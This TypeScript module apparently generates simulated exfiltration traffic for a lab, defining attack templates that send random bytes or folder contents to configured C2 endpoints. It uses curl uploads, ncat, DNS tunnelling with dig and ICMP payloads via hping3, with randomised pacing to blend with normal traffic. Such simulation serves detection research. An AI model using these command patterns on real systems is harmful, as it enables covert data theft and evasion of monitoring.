import type {Attack, Scene, ServiceName} from "../configuration.ts";

/** Data leave by ordinary tools, in turns with the host's ordinary use. */
function carry(
  tool: string,
  needs: readonly string[],
  against: ServiceName,
  seconds: number,
  argv: (scene: Scene, address: string, port: number) => string[]
): Attack {
  return {
    label: "Exfiltration",
    tool,
    needs,
    against: [against],
    plan(scene) {
      const {address, port} = scene.endpoints[against];
      return {commands: [argv(scene, address, port)], seconds, to: [address]};
    }
  };
}

const megabytes = ({random}: Scene) => random.integer(2, 9);

export const curlOut = carry("curl-out", ["curl"], "c2-https", 40, (scene, address, port) => [
  ...[
    "sh",
    "-c",
    `head -c ${megabytes(scene)}M /dev/urandom | curl -sk -m 38 --limit-rate ${scene.random.integer(150, 1500)}k -T - https://${address}:${port}/upload`
  ]
]);
export const curlPieces = carry("curl-pieces", ["curl"], "c2-http", 60, ({random}, address, port) => [
  ...[
    "sh",
    "-c",
    `for i in $(seq ${random.integer(8, 25)}); do head -c ${random.integer(40, 400)}k /dev/urandom | curl -s -m 10 --data-binary @- http://${address}:${port}/upload -o /dev/null; sleep ${random.uniform(0.3, 3).toFixed(1)}; done`
  ]
]);
export const ncatOut = carry("ncat-out", ["ncat"], "c2-raw", 40, (scene, address, port) => [
  ...["sh", "-c", `tar cf - -C ${scene.folder} files | ncat -w 5 ${address} ${port} >/dev/null`]
]);
export const digOut = carry("dig-out", ["dig"], "c2-dns", 45, ({random}, address, port) => [
  ...[
    "sh",
    "-c",
    `for i in $(seq ${random.integer(60, 160)}); do dig -p ${port} +time=1 +tries=1 @${address} $(head -c ${random.integer(18, 30)} /dev/urandom | od -An -tx1 | tr -d ' \\n').x.lab.example ${random.pick(["TXT", "A", "TXT"])} >/dev/null; sleep ${random.pick(["0.05", "0.2", "0.4"])}; done`
  ]
]);
/** In the data of echo requests (hping3 reads a file in pieces). */
export const pingOut = carry("ping-out", ["hping3"], "c2-http", 40, ({folder, random}, address) => [
  ...[
    "hping3",
    "-q",
    "-1",
    "-d",
    `${random.integer(400, 1200)}`,
    "-E",
    `${folder}/files/7.bin`,
    "-i",
    `u${random.integer(60_000, 200_000)}`,
    "-c",
    `${random.integer(120, 260)}`,
    address
  ]
]);
